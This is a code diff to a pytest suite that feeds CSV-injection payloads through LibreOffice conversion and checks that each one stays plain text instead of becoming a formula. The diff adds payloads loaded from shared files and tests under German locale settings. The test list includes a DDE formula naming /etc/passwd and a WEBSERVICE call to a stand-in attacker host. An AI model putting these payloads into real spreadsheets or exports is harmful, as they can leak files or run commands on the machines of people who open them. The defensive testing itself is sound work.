@@ -1,8 +1,10 @@
 """The CSV files in LibreOffice, converted the way docs/spreadsheet.md says: what each cell has become."""
 
+import json
 import re
 import shutil
 import subprocess
+from collections.abc import Sequence
 from datetime import datetime
 from pathlib import Path
 from typing import NamedTuple
@@ -11,6 +13,7 @@ from xml.etree import ElementTree
 import pytest
 
 from llm_integration.csv_rows import Kind, Layout, bars_layout, signals_layout
+from tests.sampledata import SHARED
 
 PAGE = Path(__file__).resolve().parents[2] / "docs" / "spreadsheet.md"
 OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
@@ -21,6 +24,10 @@ HOSTILE = [
     "a;=1+1", 'she said "no", twice', "two\r\nlines", "＝1+1", "\u202e=1", "=DDE(\"soffice\";\"/etc/passwd\";\"1\")",
     "{=1+1}", "'=1+1", "of:=1+1", "=WEBSERVICE(\"http://evil.example\")",
 ]  # fmt: skip
+COLLECTED = () if SHARED is None else (
+    *json.loads((SHARED / "hostile" / "blns.json").read_text("utf-8")),
+    *(SHARED / "hostile" / "csv-payload.txt").read_text("utf-8").splitlines(),
+)  # fmt: skip
 TIME, NUMBER = "2026-11-29 06:18:40", "49327.85"
 LIMIT_S = 90
 LAYOUTS = (signals_layout(["rsi"]), bars_layout(["rsi"]))
@@ -76,10 +83,10 @@ def sheets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Layout, 
     return {layout.file: (layout, cells_of((folder / layout.file).with_suffix(".fods"))) for layout in LAYOUTS}
 
 
-def convert(folder: Path, infilter: str) -> None:
+def convert(folder: Path, infilter: str, texts: Sequence[str] = HOSTILE) -> None:
     """Write both files, and have LibreOffice read them so."""
     for layout in LAYOUTS:
-        (folder / layout.file).write_bytes(layout.head + layout.render(row(layout, text) for text in HOSTILE))
+        (folder / layout.file).write_bytes(layout.head + layout.render(row(layout, text) for text in texts))
     subprocess.run(
         ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", f"--infilter={infilter}",
          "--convert-to", "fods", "--outdir", str(folder), *(str(folder / layout.file) for layout in LAYOUTS)],
@@ -123,9 +130,10 @@ def test_no_formula_is_made_and_hostile_text_stays_text(
         assert re.sub(r"[^A-Za-z0-9]", "", text) == letters, (text, given)
 
 
-def test_no_formula_is_made_where_the_sheet_is_cut_at_semicolons(tmp_path: Path) -> None:
-    """As by a double click under settings whose list separator is one: the columns are wrong, and nothing runs."""
-    convert(tmp_path, "CSV:59,34,76,1,,1033,false,true")
+@pytest.mark.parametrize("separator", [44, 59])
+def test_no_formula_is_made_under_german_settings(separator: int, tmp_path: Path) -> None:
+    """Cut at semicolons as by a double click there, the columns are wrong, and nothing runs."""
+    convert(tmp_path, f"CSV:{separator},34,76,1,,1031,false,true", [*HOSTILE, *COLLECTED])
     for layout in LAYOUTS:
         cells = [cell for cells in cells_of((tmp_path / layout.file).with_suffix(".fods")) for cell in cells]
         assert len(cells) > len(HOSTILE)
